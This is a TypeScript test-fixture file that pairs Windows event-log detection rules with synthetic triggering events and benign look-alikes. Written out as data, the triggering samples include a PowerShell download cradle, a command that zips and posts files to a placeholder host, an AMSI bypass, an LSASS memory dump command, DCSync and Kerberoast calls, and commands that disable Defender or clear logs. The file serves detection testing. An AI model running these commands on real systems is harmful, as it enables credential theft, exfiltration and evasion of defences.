// PowerShell, System, Application and the logs of single components.

import { application, defender, exchange, log, row, script, systemLog, user, type RuleRow } from './sketches.ts';

const r = String.raw;
const engine = (HostApplication: string, EngineVersion = '5.1.19041.1') =>
  log('Windows PowerShell', 'PowerShell', 400, {
    '#': [
      'Available',
      'None',
      `\tHostName=ConsoleHost\r\n\tHostApplication=${HostApplication}\r\n\tEngineVersion=${EngineVersion}`,
    ],
  });
const bits = (eventId: number, data: Readonly<Record<string, string>>) =>
  log('Microsoft-Windows-Bits-Client/Operational', 'Microsoft-Windows-Bits-Client', eventId, data);
const wmi = (eventId: number, wrapper: string, elements: Readonly<Record<string, string>>) =>
  user('Microsoft-Windows-WMI-Activity/Operational', 'Microsoft-Windows-WMI-Activity', eventId, wrapper, elements);
const task = (eventId: number, data: Readonly<Record<string, string>>) =>
  log('Microsoft-Windows-TaskScheduler/Operational', 'Microsoft-Windows-TaskScheduler', eventId, data);
const rdp = (eventId: number, data: Readonly<Record<string, string>>) =>
  log(
    'Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational',
    'Microsoft-Windows-RemoteDesktopServices-RdpCoreTS',
    eventId,
    data,
  );
const ssh = (payload: string) => log('OpenSSH/Operational', 'OpenSSH', 4, { process: 'sshd', payload });
const firewall = (eventId: number, data: Readonly<Record<string, string>>) =>
  log(
    'Microsoft-Windows-Windows Firewall With Advanced Security/Firewall',
    'Microsoft-Windows-Windows Firewall With Advanced Security',
    eventId,
    data,
  );
const audit = (fields: string) => application('MSSQLSERVER', 33205, { '#': `audit_schema_version:1\n${fields}\n` });
const print = (eventId: number, data: Readonly<Record<string, string>>) =>
  log('Microsoft-Windows-PrintService/Operational', 'Microsoft-Windows-PrintService', eventId, data);
const ENCODED = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAApAA==';

// One rule a line reads better than what the formatter makes of it.
// prettier-ignore
export const OTHERS: readonly RuleRow[] = [
  row('powershell/code-loaded-in-memory', [script("[Reflection.Assembly]::Load([Convert]::FromBase64String('TVqQ'))"), script('$a=[W]::VirtualAlloc(0,1,1,1);[W]::CreateThread(0)')], { ScriptBlockText: "[Reflection.Assembly]::Load('System.Web')" }),
  row('powershell/keyword-assembled-from-pieces', [script("&('ne'+'w-item') x"), script("& ('{1}{0}'-f 'EX','I')")], { ScriptBlockText: "&('new-item') x" }),
  row('powershell/domain-listed-from-powershell', [script('Get-ADUser -Filter * -Properties *'), script("([adsisearcher]'(objectcategory=computer)').FindAll()")], { ScriptBlockText: 'Get-ADUser ann' }),
  row('powershell/local-administrators-listed-from-powershell', script('Get-LocalGroupMember -Name Administrators'), { ScriptBlockText: 'Get-LocalGroupMember -Name Users' }),
  row('powershell/program-started-on-other-host-from-powershell', [script('Invoke-Command -ComputerName srv1 -ScriptBlock { hostname }'), script('Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList a')], { ScriptBlockText: 'Invoke-Command -ScriptBlock { hostname }' }),
  row('powershell/input-or-screen-captured-by-script', script('[U]::GetAsyncKeyState(65)'), { ScriptBlockText: '[U]::GetCursorPos()' }),
  row('powershell/password-asked-for-by-script', script("$c=$host.ui.PromptForCredential('a','b','','');$c.GetNetworkCredential().Password"), { ScriptBlockText: "$c=$host.ui.PromptForCredential('a','b','','')" }),
  row('powershell/logging-of-powershell-bypassed', script("[Ref].Assembly.GetType('x').GetField('cachedGroupPolicySettings','NonPublic,Static')"), { ScriptBlockText: "[Ref].Assembly.GetType('x').GetField('name','NonPublic,Static')" }),
  row('powershell/event-log-cleared-from-powershell', script('Clear-EventLog -LogName Security'), { ScriptBlockText: 'Get-EventLog -LogName Security' }),
  row('powershell/history-of-powershell-removed', script('Remove-Item (Get-PSReadlineOption).HistorySavePath'), { ScriptBlockText: 'Get-Content (Get-PSReadlineOption).HistorySavePath' }),
  row('powershell/persistence-made-from-powershell', script("Register-ScheduledTask -TaskName u -Action (New-ScheduledTaskAction -Execute powershell -Argument '-w hidden')"), { ScriptBlockText: r`Register-ScheduledTask -TaskName u -Action (New-ScheduledTaskAction -Execute 'C:\Program Files\v\a.exe')` }),
  row('powershell/account-made-from-powershell', [script('New-LocalUser -Name evil'), script('Add-LocalGroupMember -Group Administrators -Member evil')], { ScriptBlockText: 'Get-LocalUser -Name evil' }),
  row('powershell/data-packed-and-sent-by-script', script('Compress-Archive C:\\data a.zip; Invoke-RestMethod http://x/u -Method Post -InFile a.zip'), { ScriptBlockText: 'Compress-Archive C:\\data a.zip' }),
  row('powershell/stored-secrets-read-by-script', script('[Windows.Security.Credentials.PasswordVault,Windows.Security.Credentials,ContentType=WindowsRuntime]'), { ScriptBlockText: '[Windows.Storage.StorageFile,Windows.Storage,ContentType=WindowsRuntime]' }),
  row('powershell/firewall-changed-from-powershell', script('Set-NetFirewallProfile -All -Enabled False'), { ScriptBlockText: 'Set-NetFirewallProfile -All -Enabled True' }),
  row('powershell/shadow-copy-made-from-powershell', script("(Get-WmiObject -List Win32_ShadowCopy).Create('C:\\','ClientAccessible')"), { ScriptBlockText: 'Get-WmiObject Win32_ShadowCopy' }),
  row('powershell/recovery-switched-off-from-powershell', script('Disable-ComputerRestore -Drive C:\\'), { ScriptBlockText: 'Enable-ComputerRestore -Drive C:\\' }),
  row('powershell/file-time-changed-by-script', script("(Get-Item a.exe).LastWriteTime = '01/01/2019'"), { ScriptBlockText: '(Get-Item a.exe).LastWriteTime' }),
  row('powershell/transfer-job-made-from-powershell', script('Start-BitsTransfer -Source http://x/a -Destination a'), { ScriptBlockText: 'Get-BitsTransfer -AllUsers' }),
  row('powershell/passwords-searched-by-script', script('Get-ChildItem C:\\ -Recurse | Select-String password'), { ScriptBlockText: 'Get-ChildItem C:\\ -Recurse | Select-String version' }),
  row('powershell/tickets-or-hashes-handled-by-script', script("Invoke-DCSync; 'lsadump::dcsync'"), { ScriptBlockText: 'Get-ADDomainController' }),
  row('powershell/old-engine-used', [engine('powershell.exe', '2.0'), engine('powershell -version 2 -c a')], { '#': ['Available', 'None', '\tHostName=ConsoleHost\r\n\tHostApplication=powershell.exe\r\n\tEngineVersion=5.1'] }),
  row('powershell/directory-module-loaded', log('Windows PowerShell', 'PowerShell', 600, { '#': ['ActiveDirectory', 'Started', '\tProviderName=ActiveDirectory\r\n\tNewProviderState=Started'] }), { '#': ['Registry', 'Started', '\tProviderName=Registry\r\n\tNewProviderState=Started'] }),
  row('powershell/amsi-bypass-attempt', script("[Ref].Assembly.GetType('x').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"), { ScriptBlockText: '# about amsiInitFailed' }),
  row('powershell/dcom-lateral-movement-via-mmc20', script("[System.Activator]::CreateInstance([Type]::GetTypeFromProgID('MMC20.Application','srv1'))"), { ScriptBlockText: "[System.Activator]::CreateInstance([Type]::GetTypeFromProgID('Word.Application','srv1'))" }),
  row('powershell/dcom-object-created-on-remote-host', script("[activator]::CreateInstance([type]::GetTypeFromCLSID('9BA05972-F6A8-11CF-A442-00A0C90A8F39','srv1'))"), { ScriptBlockText: "[type]::GetTypeFromCLSID('9BA05972-F6A8-11CF-A442-00A0C90A8F39')" }),
  row('powershell/defender-weakened-by-script', script('Set-MpPreference -DisableRealtimeMonitoring $true'), { ScriptBlockText: 'Get-MpPreference | select DisableRealtimeMonitoring' }, { ScriptBlockText: 'Set-MpPreference -DisableRealtimeMonitoring $false' }),
  row('powershell/download-cradle', script("IEX (New-Object Net.WebClient).DownloadString('http://x/a')"), { ScriptBlockText: "(New-Object Net.WebClient).DownloadString('http://x/a')" }),
  row('powershell/encoded-or-hidden-host-command', engine(`powershell.exe -nop -w hidden -enc ${ENCODED}`), { '#': ['Available', 'None', '\tHostName=ConsoleHost\r\n\tHostApplication=powershell.exe -File a.ps1\r\n\tEngineVersion=5.1'] }),
  row('powershell/kerberos-service-account-discovery', script('New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList x'), { ScriptBlockText: 'New-Object System.IdentityModel.Tokens.X509SecurityToken -ArgumentList x' }),
  row('powershell/local-admin-group-discovery', script('Get-LocalGroup'), { ScriptBlockText: 'Get-LocalUser' }),
  row('powershell/lsass-memory-dump-by-script', script("rundll32 comsvcs.dll, MiniDump (ps lsass).Id a.dmp full"), { ScriptBlockText: 'rundll32 comsvcs.dll, MiniDump (ps notepad).Id a.dmp full' }),
  row('powershell/obfuscated-host-command', engine("powershell -c \"&($pshome[4]+$pshome[30]+'x')\""), { '#': ['Available', 'None', '\tHostName=ConsoleHost\r\n\tHostApplication=powershell -c a\r\n\tEngineVersion=5.1'] }),
  row('powershell/offensive-toolkit-function', script('Invoke-Kerberoast'), { ScriptBlockText: 'Invoke-Pester' }),
  row('powershell/shadow-copy-deletion-by-script', script('Get-WmiObject Win32_ShadowCopy | Remove-WmiObject'), { ScriptBlockText: 'Get-WmiObject Win32_ShadowCopy' }),
  row('powershell/wmi-subscription-from-script', script('Set-WmiInstance -Class __EventFilter -Arguments @{}'), { ScriptBlockText: 'Get-WmiObject -Class __EventFilter' }),
  row('application/sql-server-built-in-login-refused', [audit('action_id:LGIF\nserver_principal_name:sa'), application('MSSQLSERVER', 18456, { '#': ['sa', 'Reason: x', ' [CLIENT: 10.0.0.9]'] })], { '#': 'audit_schema_version:1\naction_id:LGIF\nserver_principal_name:ann\n' }),
  row('application/sql-server-started-in-single-user-mode', application('MSSQLSERVER', 17115, { '#': '-s "MSSQLSERVER"\n\t -m' }), { '#': '-s "MSSQLSERVER"' }),
  row('application/sql-server-used-to-run-commands', audit("action_id:EX\nstatement:EXEC xp_cmdshell 'whoami'"), { '#': 'audit_schema_version:1\naction_id:EX\nstatement:SELECT 1\n' }),
  row('application/sql-server-audit-dropped', audit('action_id:DR\nstatement:DROP DATABASE AUDIT SPECIFICATION x'), { '#': 'audit_schema_version:1\naction_id:DR\nstatement:DROP TABLE x\n' }),
  row('application/sql-server-command-shell-enabled', application('MSSQLSERVER', 15457, { '#': ['xp_cmdshell', '0', '1'] }), { '#': ['xp_cmdshell', '1', '0'] }),
  row('application/sql-server-privilege-granted', audit('action_id:APRL\nsucceeded:true'), { '#': 'audit_schema_version:1\naction_id:SL\nsucceeded:true\n' }),
  row('application/known-exploit-reported-by-windows', application('Microsoft-Windows-Audit-CVE', 1, { CVEID: '[CVE-2020-0601] cert validation' }), { eventId: 2 }),
  row('application/security-or-log-service-crashed', application('Application Error', 1000, { '#': ['lsass.exe', '10.0', 'x', 'ntdll.dll'] }), { '#': ['notepad.exe', '10.0', 'x', 'ntdll.dll'] }),
  row('application/package-installed-from-network-or-temp', application('MsiInstaller', 1040, { '#': ['http://203.0.113.5/a.msi', '4000'] }), { '#': [r`C:\Sources\a.msi`, '4000'] }),
  row('application/directory-database-copied-with-esent', application('ESENT', 325, { '#': ['ntdsutil', '1', r`C:\x\ntds.dit`] }), { '#': ['lsass', '1', r`C:\Windows\NTDS\ntds.dit`] }),
  row('application-experience/compatibility-fix-that-redirects', user('Microsoft-Windows-Application-Experience/Program-Telemetry', 'Microsoft-Windows-Application-Experience', 500, 'CompatibilityFixEvent', { FixName: 'InjectDll', ExePath: r`C:\Windows\notepad.exe` }), { FixName: 'HighDpiAware' }),
  row('application-experience/control-panel-applet-from-user-folder', user('Microsoft-Windows-Application-Experience/Program-Compatibility-Assistant', 'Microsoft-Windows-Application-Experience', 17, 'EventInfo', { ResolverName: 'ControlPanelApplet', ExePath: r`C:\Users\ann\a.cpl` }), { ExePath: r`C:\Windows\System32\timedate.cpl` }),
  row('system/security-service-ended', systemLog('Service Control Manager', 7034, { param1: 'Microsoft Defender Antivirus Service', param2: '1' }), { param1: 'Print Spooler' }),
  row('system/netlogon-channel-refused-or-allowed', systemLog('NETLOGON', 5829, { '#': ['x'] }), { eventId: 5719 }),
  row('system/name-of-account-checked-by-sam', systemLog('Microsoft-Windows-Directory-Services-SAM', 16990), { eventId: 16962 }),
  row('system/shadow-copy-storage-lost', systemLog('volsnap', 25), { eventId: 33 }),
  row('system/driver-blocked-by-windows', systemLog('Service Control Manager', 7000, { param1: 'x', param2: '%%1275' }), { param2: '%%2' }),
  row('system/time-set-by-program', systemLog('Microsoft-Windows-Kernel-General', 1, { Reason: '1', ProcessName: r`\Device\HarddiskVolume2\x.exe` }), { ProcessName: r`\Device\HarddiskVolume2\Windows\System32\svchost.exe` }),
  row('system/dcom-activation-denied-for-shell-object', systemLog('Microsoft-Windows-DistributedCOM', 10016, { param2: 'Remote', param4: '{9BA05972-F6A8-11CF-A442-00A0C90A8F39}' }), { param2: 'Local' }),
  row('system/event-log-cleared', user('System', 'Microsoft-Windows-Eventlog', 104, 'LogFileCleared', { Channel: 'System' }), { eventId: 105 }),
  row('system/security-service-disabled', systemLog('Service Control Manager', 7040, { param1: 'Windows Event Log', param2: 'auto start', param3: 'disabled', param4: 'EventLog' }), { param4: 'Spooler' }),
  row('system/sysmon-driver-unloaded', systemLog('Microsoft-Windows-FilterManager', 1, { DeviceName: 'SysmonDrv' }), { DeviceName: 'luafv' }, { DeviceName: 'WdFilter' }),
  row('defender/attack-tool-found', defender(1116, { 'Threat Name': 'HackTool:Win32/Mimikatz.D', Path: 'x' }), { 'Threat Name': 'PUA:Win32/Presenoker' }, { 'Threat Name': 'HackTool:Win32/AutoKMS' }),
  row('defender/threat-found', defender(1116, { 'Threat Name': 'Trojan:Win32/X', Path: 'x' }), { eventId: 1009 }),
  row('defender/threat-not-removed', defender(1118, { 'Threat Name': 'x' }), { eventId: 1117 }),
  row('defender/history-deleted', defender(1013, { Domain: 'D', User: r`D\ann` }), { User: r`NT AUTHORITY\SYSTEM` }),
  row('defender/change-blocked-by-tamper-protection', defender(5013, { 'Changed Type': 'Ignored' }), { eventId: 5014 }),
  row('defender/behaviour-blocked-by-reduction-rule', defender(1121, { ID: 'x' }), { eventId: 1122 }),
  row('defender/protection-failed-or-off-in-health-report', defender(1151, { 'RTP state': 'Disabled', 'BM state': 'Enabled' }), { 'RTP state': 'Enabled' }),
  row('defender/exclusion-added', defender(5007, { 'New Value': r`HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\x = 0x0` }), { 'New Value': '' }),
  row('defender/protection-switched-off', defender(5001), { eventId: 5000 }),
  row('wmi/log-cleared-through-wmi', wmi(5858, 'Operation_ClientFailure', { Operation: r`Start IWbemServices::ExecMethod - root\cimv2 : Win32_NTEventlogFile.Name="C:\\x"::ClearEventlog` }), { Operation: r`Start IWbemServices::ExecMethod - root\cimv2 : Win32_NTEventlogFile.Name="C:\\x"::BackupEventlog` }),
  row('wmi/process-created-through-wmi-by-other-host', wmi(5858, 'Operation_ClientFailure', { Operation: 'Start IWbemServices::ExecMethod - root\\cimv2 : Win32_Process::Create' }), { Operation: 'Start IWbemServices::ExecQuery - root\\cimv2 : select * from Win32_Process' }),
  row('wmi/provider-loaded-from-open-folder', wmi(5857, 'Operation_StartedOperational', { ProviderName: 'x', ProviderPath: r`C:\Users\Public\a.dll` }), { ProviderPath: r`%systemroot%\system32\wbem\a.dll` }),
  row('wmi/permanent-subscription-bound', wmi(5861, 'Operation_ESStoConsumerBinding', { Namespace: 'root', PossibleCause: 'instance of CommandLineEventConsumer\n{\n\tName = "x";\n};' }), { PossibleCause: 'instance of NTEventLogEventConsumer\n{\n\tName = "x";\n};' }),
  row('task-scheduler/task-of-protection-or-recovery-deleted', task(141, { TaskName: r`\Microsoft\Windows\SystemRestore\SR`, UserName: r`D\ann` }), { UserName: r`NT AUTHORITY\SYSTEM` }),
  row('task-scheduler/interpreter-run-by-task', task(129, { TaskName: r`\u`, Path: 'powershell.exe' }), { TaskName: r`\Microsoft\Windows\u` }),
  row('task-scheduler/task-program-in-open-folder', task(129, { TaskName: r`\x`, Path: r`C:\Users\Public\x.exe` }), { Path: r`C:\Windows\System32\defrag.exe` }),
  row('bits/transfer-by-default-job-of-powershell', bits(59, { name: 'BITS Transfer', url: 'https://example.com/a.exe' }), { name: 'Font Download' }, { url: 'http://10.0.0.1/a.exe' }),
  row('bits/job-of-program-without-downloads', bits(3, { jobTitle: 'x', processPath: r`C:\Windows\SysWOW64\notepad.exe` }), { processPath: r`C:\Windows\System32\svchost.exe` }),
  row('bits/download-from-file-drop', bits(59, { name: 'x', url: 'https://transfer.sh/a' }), { url: 'https://example.com/a' }),
  row('bits/download-from-bare-address', bits(59, { url: 'http://203.0.113.9:8080/a.exe' }), { url: 'http://10.1.2.3/a.exe' }),
  row('bits/job-by-command-line-tool', bits(3, { processPath: r`C:\Windows\System32\bitsadmin.exe` }), { processPath: r`C:\Windows\System32\svchost.exe` }),
  row('terminal-services/remote-desktop-from-public-address', [user('Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational', 'x', 1149, 'EventXML', { Param1: 'ann', Param3: '203.0.113.5' }), user('Microsoft-Windows-TerminalServices-LocalSessionManager/Operational', 'x', 21, 'EventXML', { User: 'ann', Address: '203.0.113.5' })], { Param3: '10.0.0.9' }, { Param3: 'fe80::1' }),
  row('terminal-services/remote-desktop-with-tiny-screen', rdp(168, { MonitorWidth: '200', MonitorHeight: '200' }), { MonitorWidth: '1920' }),
  row('terminal-services/client-connected-out', log('Microsoft-Windows-TerminalServices-RDPClient/Operational', 'Microsoft-Windows-TerminalServices-ClientActiveXCore', 1024, { Value: 'srv1' }), { eventId: 1025 }),
  row('terminal-services/remote-desktop-tunnel', user('Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational', 'x', 1149, 'EventXML', { Param1: 'ann', Param3: '127.0.0.1' }), { Param3: '10.0.0.9' }),
  row('winrm/session-to-other-host', log('Microsoft-Windows-WinRM/Operational', 'Microsoft-Windows-WinRM', 6, { connection: 'srv1/wsman?PSVersion=5.1' }), { connection: 'localhost/wsman?PSVersion=5.1' }),
  row('winrm/remote-shell-started-by-winrm', log('Microsoft-Windows-WinRM/Operational', 'Microsoft-Windows-WinRM', 91), { eventId: 92 }),
  row('applocker/program-blocked', user('Microsoft-Windows-AppLocker/EXE and DLL', 'Microsoft-Windows-AppLocker', 8004, 'RuleAndFileData', { FullFilePath: r`C:\Users\ann\a.exe` }), { eventId: 8002 }),
  row('applocker/program-in-open-folder-would-be-blocked', user('Microsoft-Windows-AppLocker/EXE and DLL', 'Microsoft-Windows-AppLocker', 8003, 'RuleAndFileData', { FullFilePath: r`C:\Users\Public\a.exe` }), { FullFilePath: r`C:\Program Files\a.exe` }),
  row('code-integrity/revoked-or-unsigned-code-blocked', log('Microsoft-Windows-CodeIntegrity/Operational', 'Microsoft-Windows-CodeIntegrity', 3077, { FileNameBuffer: 'x' }), { eventId: 3076 }),
  row('app-package/package-from-address-or-open-folder', log('Microsoft-Windows-AppXDeploymentServer/Operational', 'Microsoft-Windows-AppXDeployment-Server', 854, { Path: 'https://203.0.113.5/a.msix' }), { Path: 'https://x.microsoft.com/a.msix' }),
  row('firewall/profile-switched-off', firewall(2003, { SettingType: '1', SettingValue: '00000000', ModifyingApplication: r`C:\Windows\System32\netsh.exe` }), { SettingValue: '01000000' }),
  row('firewall/all-rules-deleted-or-reset', firewall(2033, { ModifyingApplication: r`C:\Windows\System32\netsh.exe` }), { eventId: 2006 }),
  row('firewall/rule-added-by-or-for-odd-program', firewall(2004, { Action: '3', ApplicationPath: r`C:\Users\Public\a.exe`, ModifyingApplication: r`C:\Windows\System32\mmc.exe` }), { ApplicationPath: r`C:\Program Files\v\a.exe` }),
  row('firewall/inbound-rule-open-to-all', firewall(2004, { Action: '3', Direction: '1', Protocol: '256', RemoteAddresses: '*', Active: '1' }), { Protocol: '6' }),
  row('exchange/mailbox-exported', exchange('New-MailboxExportRequest', r`-Mailbox "ann" -FilePath "\\srv\s\a.pst"`), { '#': ['Get-MailboxExportRequest', ''] }),
  row('exchange/mailbox-exported-as-server-page', exchange('New-MailboxExportRequest', r`-Mailbox "ann" -FilePath "\\localhost\c$\inetpub\wwwroot\a.aspx"`), { '#': ['New-MailboxExportRequest', r`-Mailbox "ann" -FilePath "\\srv\s\a.pst"`] }),
  row('exchange/role-for-all-mailboxes-assigned', exchange('New-ManagementRoleAssignment', '-Role "ApplicationImpersonation" -User "ann"'), { '#': ['New-ManagementRoleAssignment', '-Role "View-Only Recipients" -User "ann"'] }),
  row('exchange/mail-forwarded-by-rule', exchange('Set-Mailbox', '-Identity "ann" -ForwardingSmtpAddress "smtp:a@example.com"'), { '#': ['Set-Mailbox', '-Identity "ann" -Office "1"'] }),
  row('exchange/transport-agent-installed', exchange('Install-TransportAgent', '-Name "x"'), { '#': ['Get-TransportAgent', '-Name "x"'] }),
  row('exchange/audit-of-mailboxes-switched-off', exchange('Set-AdminAuditLogConfig', '-AdminAuditLogEnabled "False"'), { '#': ['Set-AdminAuditLogConfig', '-AdminAuditLogEnabled "True"'] }),
  row('iis/logging-of-web-server-switched-off', log('Microsoft-IIS-Configuration/Operational', 'Microsoft-Windows-IIS-Configuration', 29, { Configuration: '/system.webServer/httpLogging/@dontLog', NewValue: 'true' }), { NewValue: 'false' }),
  row('iis/module-added-to-web-server', log('Microsoft-IIS-Configuration/Operational', 'Microsoft-Windows-IIS-Configuration', 29, { Configuration: '/system.webServer/globalModules/add[@name="x"]', EditOperationType: 'ADD' }), { EditOperationType: 'REMOVE' }),
  row('other/private-key-used-by-odd-program', { channel: 'Microsoft-Windows-CAPI2/Operational', provider: 'Microsoft-Windows-CAPI2', eventId: 70, userData: [['CryptAcquireCertificatePrivateKey', [], '', [['EventAuxInfo', [['ProcessName', 'mimikatz.exe']], '', []]]]] }, { ProcessName: 'lsass.exe' }),
  row('other/protection-feature-of-windows-removed', user('Setup', 'Microsoft-Windows-Servicing', 8, 'CbsUpdateChangeState', { UpdateName: 'Windows-Defender-Default-Definitions' }), { UpdateName: 'MediaPlayback' }),
  row('other/proxy-on-unusual-port', log('Microsoft-Windows-WinINet-Config/ProxyConfigChanged', 'Microsoft-Windows-WinINet-Config', 5600, { pwszProxy: 'http://x:123' }), { pwszProxy: 'http://x:8080' }),
  row('other/proxy-of-user-changed', log('Microsoft-Windows-WinINet-Config/ProxyConfigChanged', 'Microsoft-Windows-WinINet-Config', 5600, { pwszProxy: 'http://x:8080' }), { pwszProxy: 'http://127.0.0.1:8080' }),
  row('openssh/ssh-session-cut-after-many-failures', ssh('Disconnecting invalid user a 10.0.0.9 port 1: Too many authentication failures [preauth]'), { payload: 'Disconnected from user a' }),
  row('openssh/ssh-login-of-built-in-account', ssh('Accepted password for administrator from 10.0.0.9 port 1 ssh2'), { payload: 'Accepted password for ann from 10.0.0.9 port 1 ssh2' }),
  row('dns/zone-transfer-asked', log('DNS Server', 'Microsoft-Windows-DNS-Server-Service', 6001, { param1: 'x' }), { eventId: 6002 }),
  row('dns/dns-server-logging-switched-off', log('Microsoft-Windows-DNSServer/Audit', 'Microsoft-Windows-DNSServer', 541, { Setting: 'EventLogLevel', NewValue: '0' }), { NewValue: '4' }),
  row('dns/plugin-loaded-by-dns-server', log('DNS Server', 'Microsoft-Windows-DNS-Server-Service', 770, { param1: 'x.dll' }), { eventId: 769 }),
  row('directory-service/unsigned-ldap-bind', log('Directory Service', 'Microsoft-Windows-ActiveDirectory_DomainService', 2889, { '#': ['10.0.0.9:1', 'ann', '1'] }), { eventId: 2888 }),
  row('directory-service/expensive-search', log('Directory Service', 'Microsoft-Windows-ActiveDirectory_DomainService', 1644, { '#': ['DC=a', ' ( |  (samAccountType=805306368) ) ', '100'] }), { '#': ['DC=a', ' (cn=ann) ', '1'] }),
  row('directory-service/database-copied-with-ifm', log('Directory Service', 'NTDS ISAM', 2006, { '#': 'x' }), { eventId: 2000 }),
  row('printing/printer-of-attack-tool', print(848, { PrinterName: 'Kiwi Legit Printer', ShareName: 'x' }), { PrinterName: 'Office' }),
  row('printing/printer-driver-with-unusual-file', user('Microsoft-Windows-PrintService/Operational', 'Microsoft-Windows-PrintService', 316, 'DriverAdded', { Param1: 'x', Param4: 'UNIDRV.DLL, kernelbase.dll, a.dll' }), { Param4: 'UNIDRV.DLL, UNIRES.DLL' }),
  row('printing/printer-driver-plugin-failed', user('Microsoft-Windows-PrintService/Admin', 'Microsoft-Windows-PrintService', 808, 'LoadPluginFailed', { PluginDllName: 'x.dll', ErrorCode: '0x45a' }), { ErrorCode: '0x2' }),
];
